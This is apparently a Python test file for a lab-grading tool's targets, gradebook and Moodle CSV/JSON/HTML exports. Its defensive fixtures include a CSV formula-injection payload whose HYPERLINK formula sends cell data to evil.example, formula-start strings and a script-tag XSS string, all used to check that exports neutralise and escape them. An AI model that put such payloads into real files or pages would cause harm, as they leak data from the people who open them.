"""virtlab grade, the parts that need no SSH: targets, gradebook, exports, usage errors.

The gradebook is a real SQLite file, the inventories are parsed by the real
``ansible-inventory``, the HTML is rendered by the real template.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import pytest
from conftest import run_virtlab
from consumers import MoodleAbort, MoodleUser, check_json, check_moodle_csv, moodle_import
from hypothesis import given, settings
from hypothesis import strategies as st

from checker.grade import exports
from checker.grade.gradebook import Gradebook, GradebookError, default_path
from checker.grade.targets import HostTarget, TargetError, from_inventory, from_specs

LAB = "01-hardware"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- targets ----------------------------------------------------------------------------

def test_host_specs_name_the_learner_and_the_ssh_destination():
    t = from_specs(["ssh://alice@pc12:2222", "ssh://bob@10.0.0.5", "ssh://alice@pc12:2222"])
    assert [x.learner for x in t] == ["alice", "bob"]  # duplicate dropped
    assert (t[0].ssh_user, t[0].ssh_host, t[0].ssh_port) == ("alice", "pc12", 2222)
    assert t[1].libvirt_uri("qemu+ssh://{user}@{host}:{port}/system") == \
        "qemu+ssh://bob@10.0.0.5:22/system"


@pytest.mark.parametrize("spec, why", [
    ("local://", "ssh://user@host"),
    ("ssh://pc12", "no user"),
    ("ssh://alice:secret@pc12", "no password in a host spec"),
    ("ssh://alice@pc12:notaport", "the port must be a number in 1..65535"),
    ("ssh://alice@pc12/x?y=1", "path, '?' options"),
])
def test_bad_host_specs_are_refused_with_the_reason(spec, why):
    with pytest.raises(TargetError, match=why.replace("?", r"\?")):
        from_specs([spec])


def test_ipv6_hosts_are_bracketed_in_the_libvirt_uri():
    t = HostTarget("h", "ssh://a@[::1]:22", "a", ssh_user="a", ssh_host="::1", ssh_port=22)
    assert t.libvirt_uri("qemu+ssh://{user}@{host}:{port}/system") == "qemu+ssh://a@[::1]:22/system"


INI = """\
[classe]
pc01 ansible_host=127.0.0.1 ansible_port=2201 ansible_user=alice email=alice@example.org
pc02 ansible_host=127.0.0.2 ansible_user=etu virtlab_learner=bob
"""
YAML = """\
all:
  children:
    classe:
      hosts:
        pc01:
          ansible_host: 127.0.0.1
          ansible_port: 2201
          ansible_user: alice
          email: alice@example.org
        pc02:
          ansible_host: 127.0.0.2
          ansible_user: etu
          virtlab_learner: bob
"""


@pytest.mark.parametrize("name, text", [("classe.ini", INI), ("classe.yml", YAML)])
def test_an_inventory_gives_learners_emails_and_ansible_specs(tmp_path, name, text):
    inv = tmp_path / name
    inv.write_text(text)
    t = {x.host: x for x in from_inventory(str(inv))}
    assert set(t) == {"pc01", "pc02"}
    assert (t["pc01"].learner, t["pc01"].email) == ("alice", "alice@example.org")
    assert (t["pc02"].learner, t["pc02"].ssh_user) == ("bob", "etu")
    assert (t["pc01"].ssh_host, t["pc01"].ssh_port) == ("127.0.0.1", 2201)
    assert t["pc01"].spec == f"ansible://pc01?ansible_inventory={inv.resolve()}"
    assert t["pc01"].ssh_login_known() and t["pc02"].ssh_login_known()


def test_without_ansible_user_the_ssh_login_is_left_to_ssh(tmp_path):
    """testinfra names no login then: the runner does not open the host's connection early
    as the learner (checker.grade.grading.early_argv), libvirt's URI still names them."""
    inv = tmp_path / "x.ini"
    inv.write_text("[c]\npc01 ansible_host=127.0.0.1 virtlab_learner=alice\n")
    t, = from_inventory(str(inv))
    assert (t.learner, t.ssh_user, t.ssh_login_known()) == ("alice", "alice", False)
    assert t.libvirt_uri("qemu+ssh://{user}@{host}/system") == "qemu+ssh://alice@127.0.0.1/system"


def test_an_inventory_host_without_learner_is_refused(tmp_path):
    inv = tmp_path / "x.ini"
    inv.write_text("[c]\npc01 ansible_host=127.0.0.1\n")
    with pytest.raises(TargetError, match="neither virtlab_learner nor ansible_user"):
        from_inventory(str(inv))


def test_a_missing_inventory_is_a_clear_error(tmp_path):
    with pytest.raises(TargetError, match="no such file"):
        from_inventory(str(tmp_path / "nope.ini"))


# --- gradebook --------------------------------------------------------------------------

def _report(user: str, statuses: dict[str, str], msg: str = "m") -> dict:
    pts = {"cpu-virt-flags": 3, "kvm-modules": 2, "dev-kvm": 2, "host-resources": 3}
    objs = [{"id": oid, "title": oid, "section": "8.1.1", "points": pts[oid],
             "earned": pts[oid] if st_ == "pass" else 0, "status": st_,
             "message": "ok" if st_ == "pass" else f"{oid}: {msg}", "hint": "",
             "evidence": {"user": user}} for oid, st_ in statuses.items()]
    return {"schema_version": 1, "lab": LAB, "title": "t", "host": "h", "libvirt_uri": "u",
            "user": user, "lang": "fr",
            "score": sum(o["earned"] for o in objs if o["status"] != "skip"),
            "max_score": sum(o["points"] for o in objs if o["status"] != "skip"),
            "passed": False, "started_at": "2024-01-01T00:00:00+00:00", "duration_s": 0.1,
            "checker_version": "0.1.0", "objectives": objs}


ALL_PASS = {"cpu-virt-flags": "pass", "kvm-modules": "pass", "dev-kvm": "pass",
            "host-resources": "pass"}


def graded(user, statuses=ALL_PASS, msg="m"):
    return [{"lab": LAB, "status": "graded", "reason": "", "report": _report(user, statuses, msg)}]


def _failed(status, reason):
    return [{"lab": LAB, "status": status, "reason": reason, "report": None}]


def a_class(n=4):
    return [HostTarget(host=f"ssh://u{i}@h{i}", spec=f"ssh://u{i}@h{i}", learner=f"u{i}",
                       email=f"u{i}@example.org", ssh_user=f"u{i}", ssh_host=f"h{i}")
            for i in range(n)]


def test_every_run_is_kept_with_its_time_version_and_evidence(tmp_path):
    gb = Gradebook(tmp_path / "gb.sqlite")
    roster = a_class(2)
    run = gb.start_run([LAB], roster, lang="fr", options={"timeout": 5})
    gb.record(run, roster[0].host, graded("u0"), 0.2)
    gb.record(run, roster[1].host, _failed("unreachable", "Connection refused"), 0.01)
    gb.finish_run(run, "complete")
    run2 = gb.start_run([LAB], roster, lang="fr")
    gb.finish_run(run2, "complete")
    gb.close()
    db = sqlite3.connect(tmp_path / "gb.sqlite")
    runs = db.execute("SELECT id, status, checker_version, started_at, finished_at "
                      "FROM runs").fetchall()
    assert [r[0] for r in runs] == [run, run2] and all(r[1] == "complete" for r in runs)
    assert all(r[2] == "0.1.0" and r[3] and r[4] for r in runs)
    ev = db.execute("SELECT objective, status, evidence FROM objective_results").fetchall()
    assert len(ev) == 4 and json.loads(ev[0][2]) == {"user": "u0"}
    rep = json.loads(db.execute("SELECT report FROM results WHERE status='graded'").fetchone()[0])
    assert rep["user"] == "u0" and len(rep["objectives"]) == 4


def test_pending_hosts_of_an_interrupted_run_and_of_failed_connections(tmp_path):
    gb = Gradebook(tmp_path / "gb.sqlite")
    roster = a_class(4)
    run = gb.start_run([LAB], roster, lang="fr")
    gb.record(run, roster[0].host, graded("u0"))
    gb.record(run, roster[1].host, _failed("timeout", "banner exchange"))
    gb.finish_run(run, "interrupted")  # u2, u3 never reached
    missing = gb.pending(run, missing=True, failed_to_connect=False)
    failed = gb.pending(run, missing=False, failed_to_connect=True)
    assert [t.learner for t in missing] == ["u2", "u3"]
    assert [t.learner for t in failed] == ["u1"]
    # a resume continues the run; the class view merges both, latest outcome first
    run2 = gb.start_run([LAB], missing + failed, lang="fr", parent_id=run, kind="resume")
    for t in missing + failed:
        gb.record(run2, t.host, graded(t.learner))
    view = gb.class_view(run2)
    assert [r.id for r in view.runs] == [run, run2]
    assert [row.target.learner for row in view.rows] == ["u0", "u1", "u2", "u3"]
    assert all(row.results[LAB].status == "graded" for row in view.rows)
    assert view.rows[0].results[LAB].run_id == run and view.rows[1].results[LAB].run_id == run2
    assert gb.pending(run2, missing=True, failed_to_connect=True) == []


def test_a_gradebook_from_a_newer_virtlab_is_refused(tmp_path):
    Gradebook(tmp_path / "gb.sqlite").close()
    db = sqlite3.connect(tmp_path / "gb.sqlite")
    with db:
        db.execute("UPDATE meta SET value='99' WHERE key='schema_version'")
    db.close()
    with pytest.raises(GradebookError, match="newer"):
        Gradebook(tmp_path / "gb.sqlite")


def test_the_default_gradebook_lives_under_xdg_data_home(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    assert default_path() == tmp_path / "virtlab" / "gradebook.sqlite"


# --- exports ----------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A2)",
           "\tTAB", "\rCR", "<script>alert('x')</script>", '"quoted", comma; semi\nnewline']


@given(st.text())
@settings(max_examples=300)
def test_no_csv_cell_can_start_a_formula(s):
    cell = exports.neutralise(s)
    assert not cell.startswith(FORMULA_START)
    # nothing Moodle would keep in the feedback: no quote in front; no blank it would trim
    assert not cell.startswith(" ")
    if cell.startswith("'"):  # only the data's own quote, never one added
        assert s.replace("\r", " ").replace("\n", " ").lstrip(" \t\v\f\0=+-@").startswith("'")
    assert "\n" not in cell and "\r" not in cell
    assert '\\"' not in cell  # PHP's fgetcsv would take it for an escaped quote
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow([cell, "x"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [cell, "x"]


def _hostile_view(tmp_path, lang="fr"):
    gb = Gradebook(tmp_path / "gb.sqlite")
    roster = [HostTarget(host=f"pc{i}", spec=f"ansible://pc{i}", learner=f"l{i}", email=e,
                         ssh_user=f"l{i}", ssh_host="127.0.0.1")
              for i, e in enumerate(HOSTILE)]
    run = gb.start_run([LAB], roster, lang=lang)
    for i, t in enumerate(roster):
        if i == 1:
            gb.record(run, t.host, _failed("unreachable", HOSTILE[6]))
        elif i == 2:
            continue  # never graded
        else:
            gb.record(run, t.host, graded(t.learner, {**ALL_PASS, "dev-kvm": "fail"},
                                           msg=HOSTILE[i % len(HOSTILE)]))
    gb.finish_run(run, "complete")
    return gb.class_view(run)


def test_the_csv_carries_only_graded_learners_with_a_usable_identity(tmp_path):
    view = _hostile_view(tmp_path)
    plan = exports.csv_plan(view)
    text = exports.to_csv(view)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["email", LAB, f"{LAB} feedback"]
    # l0 (an email starting with "="), l3 ("@...") and l7 (a line break) are unusable
    # identities; l1 unreachable and l2 never graded: none of them has a row. l4 and l5 are
    # trimmed, as Moodle trims them.
    assert [r[0] for r in rows[1:]] == ["TAB", "CR", HOSTILE[6]]
    left = {x.learner: x for x in plan.left_out}
    assert set(left) == {"l0", "l1", "l2", "l3", "l7"}
    assert "injoignable" in left["l1"].fr and "unreachable" in left["l1"].en
    assert "pas encore évalué" in left["l2"].fr and "not graded yet" in left["l2"].en
    assert "formula" in left["l0"].en
    row = {r[0]: r for r in rows[1:]}[HOSTILE[6]]
    assert row[1] == "8" and row[2].startswith("Objectifs non atteints : dev-kvm : ")
    check_moodle_csv(text)


def _csv_view(tmp_path, targets, results, lang="en", labs=(LAB,)):
    gb = Gradebook(tmp_path / "gb.sqlite")
    run = gb.start_run(list(labs), targets, lang=lang)
    for t in targets:
        if t.host in results:
            gb.record(run, t.host, results[t.host])
    gb.finish_run(run, "complete")
    return gb.class_view(run)


def test_duplicate_identities_are_left_out_and_reported(tmp_path):
    c = a_class(3)
    same = [c[0], HostTarget(**{**c[1].to_dict(), "email": "U0@example.org"}), c[2]]
    view = _csv_view(tmp_path, same, {t.host: graded(t.learner) for t in same})
    plan = exports.csv_plan(view)
    assert [r[0] for r in plan.rows] == ["u2@example.org"]
    dup = [x for x in plan.left_out if "duplicate" in x.en]
    assert {x.learner for x in dup} == {"u0", "u1"} and "en double" in dup[0].fr
    check_moodle_csv(exports.to_csv(view))


@pytest.mark.parametrize("identity", ["username", "email", "idnumber"])
def test_the_identity_column_is_the_one_the_instructor_chooses(tmp_path, identity):
    c = [HostTarget(**{**t.to_dict(), "username": f"moodle{i}", "idnumber": f"E{i:03}"})
         for i, t in enumerate(a_class(2))]
    view = _csv_view(tmp_path, c, {t.host: graded(t.learner) for t in c})
    text = exports.to_csv(view, exports.CsvOptions(identity=identity))
    rows = list(csv.reader(io.StringIO(text)))
    want = {"username": "moodle0", "email": "u0@example.org", "idnumber": "E000"}[identity]
    assert rows[0][0] == identity and rows[1][0] == want
    users = [MoodleUser(id=10 + i, username=f"moodle{i}", email=f"u{i}@example.org",
                        idnumber=f"E{i:03}") for i in range(2)]
    res = check_moodle_csv(text, users)
    assert res.grades[(10, LAB)] == 10.0 and res.grades[(11, LAB)] == 10.0


def test_hosts_without_the_identity_are_left_out_and_say_which_variable(tmp_path):
    c = a_class(2)
    view = _csv_view(tmp_path, c, {t.host: graded(t.learner) for t in c})
    plan = exports.csv_plan(view, exports.CsvOptions(identity="username"))
    assert plan.rows == []
    assert all("virtlab_username" in x.en and "--roster" in x.en for x in plan.left_out)


ROSTER = (
    "\ufeffFirst name,Last name,Username,ID number,Email address,Roles,Groups\r\n"
    "Ada,Lovelace,alovelace,E001,ada@example.org,Student,TP1\r\n"
    "Bob,Martin,bmartin,E002,u1@example.org,Student,TP1\r\n"
    "Carl,Sagan,csagan,E003,carl@example.org,Student,\r\n")


def test_a_moodle_roster_gives_the_identity_of_each_host(tmp_path):
    roster = tmp_path / "participants.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    c = [HostTarget(host="pc0", spec="ssh://ada@h0", learner="ada", ssh_user="ada",
                    ssh_host="h0"),  # login = the email's local part
         HostTarget(host="pc1", spec="ssh://u1@h1", learner="u1", email="u1@example.org",
                    ssh_user="u1", ssh_host="h1"),  # email known from the inventory
         HostTarget(host="pc2", spec="ssh://zed@h2", learner="zed", ssh_user="zed",
                    ssh_host="h2")]  # nobody in the roster
    view = _csv_view(tmp_path, c, {t.host: graded(t.learner) for t in c})
    plan = exports.csv_plan(view, exports.CsvOptions(identity="username", roster=str(roster)))
    assert [r[0] for r in plan.rows] == ["alovelace", "bmartin"]
    (left,) = plan.left_out
    assert left.host == "pc2" and "no participant" in left.en and "aucun participant" in left.fr
    users = [MoodleUser(1, "alovelace", "ada@example.org", "E001"),
             MoodleUser(2, "bmartin", "u1@example.org", "E002"),
             MoodleUser(3, "csagan", "carl@example.org", "E003")]
    check_moodle_csv(exports.to_csv(view, exports.CsvOptions(identity="username",
                                                              roster=str(roster))), users)
    # French Moodle, semicolons
    fr = tmp_path / "participants-fr.csv"
    fr.write_text("Prénom;Nom;Adresse de courriel;Rôles\nAda;Lovelace;ada@example.org;Étudiant\n",
                  encoding="utf-8")
    plan = exports.csv_plan(view, exports.CsvOptions(identity="email", roster=str(fr)))
    assert [r[0] for r in plan.rows] == ["ada@example.org", "u1@example.org"]
    with pytest.raises(exports.ExportError, match="no idnumber column"):
        exports.csv_plan(view, exports.CsvOptions(identity="idnumber", roster=str(fr)))


@pytest.mark.parametrize("scale, grade", [("points", "8"), ("20", "16"), ("100", "80")])
def test_grades_on_the_scale_asked(tmp_path, scale, grade):
    c = a_class(1)
    view = _csv_view(tmp_path, c, {c[0].host: graded("u0", {**ALL_PASS, "dev-kvm": "fail"})})
    rows = exports.csv_plan(view, exports.CsvOptions(scale=scale)).rows
    assert rows[0][1] == grade
    (tmp_path / "x").mkdir()
    third = _csv_view(tmp_path / "x", c,
                      {c[0].host: graded("u0", {"cpu-virt-flags": "pass", "kvm-modules": "fail",
                                                 "dev-kvm": "fail", "host-resources": "fail"})})
    assert exports.csv_plan(third, exports.CsvOptions(scale="20")).rows[0][1] == "6"  # 3/10


# --- Moodle's import rules, as the helper every CSV goes through encodes them -------------

USERS = [MoodleUser(1, "alice", "alice@example.org"), MoodleUser(2, "bob", "bob@example.org")]


def _import(text, before=None):
    return moodle_import(text, USERS, map_from="email", map_to="useremail", items={"lab": "lab"},
                         feedback={"lab feedback": "lab"}, before=before)


def test_moodle_an_empty_or_dash_grade_erases_the_grade():
    for cell in ("", "-", " - "):
        res = _import(f"email,lab,lab feedback\nalice@example.org,{cell},x\n",
                      before={(1, "lab"): 7.0})
        assert res.grades[(1, "lab")] is None and res.blanked == [(1, "lab")]
    with pytest.raises(AssertionError, match="erased"):
        check_moodle_csv("email,lab,lab feedback\na@x,,x\n")


def test_moodle_a_blank_identity_takes_the_previous_rows_learner_or_aborts():
    res = _import("email,lab,lab feedback\nalice@example.org,5,x\n,9,y\n")
    assert res.grades[(1, "lab")] == 9.0 and res.inherited == [2]  # bob's row went to alice
    with pytest.raises(MoodleAbort) as e:
        _import("email,lab,lab feedback\n,5,x\nalice@example.org,9,y\n")
    assert e.value.code == "usermappingerrorusernotfound"
    with pytest.raises(MoodleAbort):  # PHP's empty("0") is true too
        _import("email,lab,lab feedback\n0,5,x\n")


def test_moodle_an_unknown_learner_aborts_the_whole_import():
    with pytest.raises(MoodleAbort) as e:
        _import("email,lab,lab feedback\nalice@example.org,5,x\ncarol@example.org,9,y\n")
    assert e.value.code == "usermappingerror"


def test_moodle_duplicate_rows_import_both_and_the_last_wins():
    res = _import("email,lab,lab feedback\nbob@example.org,5,x\nbob@example.org,9,y\n")
    assert res.grades[(2, "lab")] == 9.0 and res.rows_of[2] == [1, 2]
    with pytest.raises(AssertionError, match="several rows"):
        check_moodle_csv("email,lab,lab feedback\nb@x,5,x\nb@x,9,y\n")


def test_moodle_keeps_the_feedback_as_written_but_trimmed_and_checks_grades():
    res = _import("email,lab,lab feedback\nalice@example.org,5,\"'=quoted, kept \"\n")
    assert res.feedback[(1, "lab")] == "'=quoted, kept"  # a guard quote would stay in it
    with pytest.raises(MoodleAbort, match="badgrade"):
        _import("email,lab,lab feedback\nalice@example.org,abc,x\n")
    with pytest.raises(MoodleAbort, match="gradevaluetoobig"):
        _import("email,lab,lab feedback\nalice@example.org,101,x\n")
    with pytest.raises(MoodleAbort, match="csvweirdcolumns"):
        _import("email,lab,lab feedback\nalice@example.org,5\n")


def test_the_json_export_holds_every_report(tmp_path):
    view = _hostile_view(tmp_path, lang="en")
    doc = check_json(exports.to_json(view), "class-export")
    assert doc["labs"] == [LAB] and len(doc["learners"]) == len(HOSTILE)
    l0 = doc["learners"][0]["results"][LAB]
    assert l0["status"] == "graded" and l0["report"]["objectives"][2]["status"] == "fail"
    assert doc["learners"][2]["results"][LAB] is None


def test_the_html_report_escapes_everything_and_has_grid_chart_failures(tmp_path):
    view = _hostile_view(tmp_path)
    html = exports.to_html(view)
    assert "<script>alert" not in html and "&lt;script&gt;alert(" in html
    assert "Apprenant" in html and "Learner" in html  # French first, English too
    assert "<svg" in html and html.count("<svg") == 1  # the pass-rate chart, inline
    assert "Échecs les plus fréquents" in html and "Most common failures" in html
    assert "Hôtes non évalués" in html and "unreachable" in html
    # the grid: one row per learner, one cell per objective
    assert html.count('class="c fail"') == len(HOSTILE) - 2
    assert html.count('class="c none"') == 2 * 4
    # with the CSV's options: who the CSV leaves out besides those not graded, and why
    html = exports.to_html(view, exports.CsvOptions())
    assert "Absents du CSV pour Moodle" in html and "formula sign" in html


def test_pass_rates_leave_out_hosts_not_graded(tmp_path):
    view = _hostile_view(tmp_path)
    rates = {oid: (rate, n) for _, oid, rate, n in exports.pass_rates(view)}
    assert rates["dev-kvm"] == (0.0, len(HOSTILE) - 2)
    assert rates["host-resources"] == (1.0, len(HOSTILE) - 2)


# --- usage errors -----------------------------------------------------------------------

@pytest.mark.parametrize("args, message", [
    (["grade", "--hosts", "ssh://a@h"], "which lab"),
    (["grade", "01"], "which hosts"),
    (["grade", "01", "--hosts", "pc12"], "bad host spec"),
    (["grade", "99", "--hosts", "ssh://a@h"], "'99'"),
    (["grade", "01", "--hosts", "ssh://a@h", "--workers", "0"], "--workers"),
    (["grade", "01", "--hosts", "ssh://a@h", "--ssh-config", "/nonexistent/cfg"], "no such file"),
    (["grade", "01", "--hosts", "ssh://a@h", "--csv", "/nonexistent/dir/x.csv"], "does not exist"),
    (["grade", "01", "--hosts", "ssh://a@h", "--connect", "qemu+ssh://{who}/system"], "{user}"),
    (["grade", "--resume"], "nothing to resume"),
])
def test_bad_usage_says_what_and_exits_2(tmp_path, args, message):
    r = run_virtlab(*args, "--db", str(tmp_path / "gb.sqlite"), env={"LANG": "en_US.UTF-8"})
    assert r.returncode == 2, r.stderr
    assert message in r.stderr
    assert "Traceback" not in r.stderr


@pytest.mark.parametrize("args, message", [
    (["grade", "--hosts", "ssh://a@h"], "virtlab grade : quel lab ?"),
    (["grade", "01"], "virtlab grade : quels hôtes ?"),
    (["grade", "01", "--hosts", "ssh://a@h", "--workers", "0"], "--workers 0 : il en faut"),
    (["grade", "--resume"], "rien à reprendre"),
])
def test_bad_usage_is_said_in_french_by_default(tmp_path, args, message):
    r = run_virtlab(*args, "--db", str(tmp_path / "gb.sqlite"), env={"LANG": "C.UTF-8"})
    assert r.returncode == 2, r.stderr
    assert message in r.stderr, r.stderr


def test_hosts_and_inventory_are_exclusive(tmp_path):
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--inventory", "x.ini", "--lang", "en")
    assert r.returncode == 2 and "not allowed with" in r.stderr
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--inventory", "x.ini", "--lang", "fr")
    assert r.returncode == 2 and "incompatible avec" in r.stderr


def test_an_unreadable_gradebook_is_a_usage_error(tmp_path):
    bad = tmp_path / "gb.sqlite"
    bad.write_bytes(b"this is not sqlite" * 100)
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--db", str(bad), "--lang", "en")
    assert r.returncode == 2 and "cannot open gradebook" in r.stderr
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--db", str(bad), "--lang", "fr")
    assert r.returncode == 2 and "impossible d'ouvrir le carnet de notes" in r.stderr


# --- inventories as Ansible users write them ----------------------------------------------

def _ansible_dir(tmp_path):
    """An inventory directory: two files, group_vars (all, a group, a parent group),
    host_vars, children."""
    inv = tmp_path / "classe"
    (inv / "group_vars").mkdir(parents=True)
    (inv / "host_vars").mkdir()
    (inv / "01-tp1.ini").write_text(
        "[tp1]\npc01 ansible_host=127.0.0.11\npc02 ansible_host=127.0.0.12\n"
        "[tp1:vars]\nansible_user=etu1\n")
    (inv / "02-tp2.yml").write_text(
        "all:\n  children:\n    soir:\n      children:\n        tp2:\n          hosts:\n"
        "            pc13:\n              ansible_host: 127.0.0.13\n"
        "            pc14:\n              ansible_host: 127.0.0.14\n")
    (inv / "group_vars" / "all.yml").write_text("ansible_port: 2222\n")
    (inv / "group_vars" / "tp1.yml").write_text(
        "ansible_ssh_private_key_file: ~/.ssh/id_tp1\n"
        "ansible_ssh_common_args: '-o ProxyJump=prof@bastion -o \"UserKnownHostsFile=/k h\"'\n")
    (inv / "group_vars" / "soir.yml").write_text("ansible_user: etu2\n")
    (inv / "host_vars" / "pc02.yml").write_text(
        "virtlab_learner: bob\nemail: bob@example.org\nvirtlab_idnumber: E002\n"
        "ansible_port: 2202\n")
    (inv / "host_vars" / "pc14.yml").write_text("virtlab_username: dmoodle\n")
    return inv


def _ansible(*args):
    import os
    import subprocess
    import sys

    bindir = os.path.dirname(sys.executable)
    r = subprocess.run([os.path.join(bindir, args[0]), *args[1:]], capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return r.stdout


def test_an_inventory_directory_reads_as_ansible_inventory_reads_it(tmp_path):
    import os

    inv = _ansible_dir(tmp_path)
    targets = {t.host: t for t in from_inventory(str(inv))}
    assert set(targets) == {"pc01", "pc02", "pc13", "pc14"}
    for name, t in targets.items():
        hv = json.loads(_ansible("ansible-inventory", "-i", str(inv), "--host", name))
        assert t.ssh_host == hv["ansible_host"] and t.ssh_port == int(hv["ansible_port"])
        assert t.ssh_user == hv["ansible_user"]
        assert t.learner == hv.get("virtlab_learner", hv["ansible_user"])
        assert t.spec == f"ansible://{name}?ansible_inventory={inv.resolve()}"
    assert (targets["pc02"].learner, targets["pc02"].email, targets["pc02"].idnumber,
            targets["pc02"].ssh_port) == ("bob", "bob@example.org", "E002", 2202)
    assert targets["pc14"].username == "dmoodle" and targets["pc13"].ssh_user == "etu2"
    # the instructor's ssh options for the group, split as a shell would
    key = os.path.expanduser("~/.ssh/id_tp1")
    assert targets["pc01"].ssh_args == ("-i", key, "-o", "ProxyJump=prof@bastion",
                                        "-o", "UserKnownHostsFile=/k h")
    assert targets["pc13"].ssh_args == ()


@pytest.mark.parametrize("pattern", ["tp1", "soir", "all:!pc02", "pc1*", "tp1:&~pc0[2-9]",
                                     "tp2,pc01"])
def test_limit_takes_ansible_patterns_as_ansible_does(tmp_path, pattern):
    inv = _ansible_dir(tmp_path)
    ours = {t.host for t in from_inventory(str(inv), pattern)}
    listed = _ansible("ansible", "-i", str(inv), pattern, "--list-hosts")
    theirs = {ln.strip() for ln in listed.splitlines()[1:] if ln.strip()}
    assert ours == theirs and ours


def test_limit_matching_nothing_and_limit_without_inventory_are_usage_errors(tmp_path):
    inv = _ansible_dir(tmp_path)
    with pytest.raises(TargetError, match="no host matches --limit 'tp9'"):
        from_inventory(str(inv), "tp9")
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--limit", "tp1",
                    "--db", str(tmp_path / "gb.sqlite"))
    assert r.returncode == 2 and "--limit" in r.stderr and "--inventory" in r.stderr


def test_list_hosts_grades_nothing_and_prints_the_hosts(tmp_path):
    inv = _ansible_dir(tmp_path)
    db = tmp_path / "gb.sqlite"
    r = run_virtlab("grade", "01", "--inventory", str(inv), "--limit", "tp1",
                    "--list-hosts", "--lang", "en", "--db", str(db))
    assert r.returncode == 0, r.stderr
    assert "hosts (2):" in r.stdout
    assert "pc01  learner=etu1 ssh=etu1@127.0.0.11:2222" in r.stdout
    assert "pc02  learner=bob ssh=etu1@127.0.0.12:2202 email=bob@example.org" in r.stdout
    assert "pc13" not in r.stdout and not db.exists()  # nothing graded, nothing recorded


def test_a_missing_optional_library_says_how_to_install_it(tmp_path):
    import subprocess
    import sys

    code = ("import sys; sys.modules['matplotlib'] = None\n"
            "from checker.cli import main\n"
            f"sys.exit(main(['grade', '01', '--hosts', 'ssh://a@h', '--html', "
            f"'{tmp_path / 'c.html'}', '--db', '{tmp_path / 'gb.sqlite'}']))")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 2, r.stderr
    assert "internal error" not in r.stderr and "Traceback" not in r.stderr
    assert "matplotlib" in r.stderr and "pip install 'virtlab[grade]'" in r.stderr
    assert ".venv/bin/pip install '.[grade]'" in r.stderr
    assert not (tmp_path / "gb.sqlite").exists()  # refused before grading anyone


def test_a_roster_without_the_identity_column_is_refused_before_grading(tmp_path):
    roster = tmp_path / "p.csv"
    roster.write_text("First name,Last name,Email address\nA,B,a@example.org\n")
    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--csv", str(tmp_path / "g.csv"),
                    "--csv-id", "idnumber", "--roster", str(roster),
                    "--db", str(tmp_path / "gb.sqlite"), "--lang", "en")
    assert r.returncode == 2 and "no idnumber column" in r.stderr
    assert not (tmp_path / "gb.sqlite").exists()


def test_a_hosts_own_key_and_options_reach_the_ssh_libvirt_runs(tmp_path):
    """libvirt's qemu+ssh runs the ``ssh`` on PATH: for a host with inventory options, the
    host's wrapper. What ssh will apply through it (``ssh -G``): the host's key and options,
    and still the run's forced settings, which the inventory's options cannot undo."""
    import subprocess

    from checker.grade.hostssh import host_bin
    from checker.grade.sshconf import SshSetup

    key = tmp_path / "id_tp1"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    setup = SshSetup(None, timeout=5)
    try:
        bindir = host_bin(setup, ("-i", str(key), "-o", "UserKnownHostsFile=/k/classe",
                                  "-o", "ForwardAgent=yes", "-o", "ControlPath=none"))
        assert bindir != setup.bin
        out = subprocess.run([str(bindir / "ssh"), "-G", "-p", "2222", "alice@pc12"],
                             capture_output=True, text=True, check=True).stdout
        eff: dict[str, list[str]] = {}
        for ln in out.splitlines():
            k, _, v = ln.partition(" ")
            eff.setdefault(k.lower(), []).append(v)
        assert str(key) in eff["identityfile"]
        assert eff["userknownhostsfile"][0].split()[0] == "/k/classe"
        assert eff["forwardagent"] == ["no"]
        assert eff["controlpath"][0].startswith(str(setup.dir))
        assert eff["port"] == ["2222"] and eff["user"] == ["alice"]
    finally:
        setup.close()


@pytest.mark.parametrize("lang, words", [("fr", "hôte injoignable"), ("en", "host unreachable")])
def test_an_unreachable_host_whose_ssh_said_nothing_is_said_in_the_readers_language(lang, words):
    from checker.engine import TargetUnreachable
    from checker.grade.worker import classify_unreachable

    status, reason = classify_unreachable(ConnectionError(), lang)  # nothing said at all
    assert status == "unreachable" and reason.startswith(words), reason
    status, reason = classify_unreachable(
        TargetUnreachable("ssh://pc1", "ssh: connect to host pc1 port 22: Connection timed out"),
        lang)
    assert status == "timeout" and reason.endswith("Connection timed out"), reason
